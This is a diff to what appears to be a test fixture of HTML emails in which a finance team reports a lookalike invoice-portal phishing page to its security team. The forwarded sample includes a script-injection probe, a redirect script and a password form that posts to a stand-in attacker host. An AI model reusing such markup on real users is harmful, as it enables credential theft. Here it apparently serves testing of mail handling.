@@ -10,10 +10,9 @@ SCREENSHOT = "screenshot-portal@fin.example"
 NEWSLETTER_LOGO = "https://images.invoice-portal.example/logo.png?u=accounts.payable"
 
 PAGE = f"""<html><head><style>p {{ font-family: Calibri, sans-serif; font-size: 11pt }}</style></head>
-<body>
-<p>Hello Security team,</p>
-<p>three of us got the mail below this morning. The page it leads to looks like our <b>invoice portal</b>, but the
-address is <i>invoice-portal.example.net</i>:</p>
+<body><p>Hello Security team,</p>
+<p>three of us got the mail below this morning. The page it leads to looks like our <b>invoice portal</b>,
+but the address is <i>invoice-portal.example.net</i>:</p>
 <p><img src="cid:{SCREENSHOT}" alt="Screenshot of the page" width="240" height="80"></p>
 <p>One colleague has entered her password before she noticed. What should she do <u>right now</u>?</p>
 <p>Accounts Payable<br>Finance</p></body></html>"""
@@ -25,7 +24,8 @@ FORWARDED_PAGE = f"""<html><body><p>The original, forwarded.</p><hr><div>
 <p onclick="alert(1)">Your payment run is <b>on hold</b>.
 <a href="http://invoice-portal.example.net/login">Sign in</a>
 to release it.</p><script>document.location='http://invoice-portal.example.net/'</script>
-<form action="http://invoice-portal.example.net/collect"><input name="password" type="password"></form></body></html>"""
+<form action="http://invoice-portal.example.net/collect"><input name="password" type="password"></form>
+</body></html>"""
 
 ARABIC = """السلام عليكم،
 
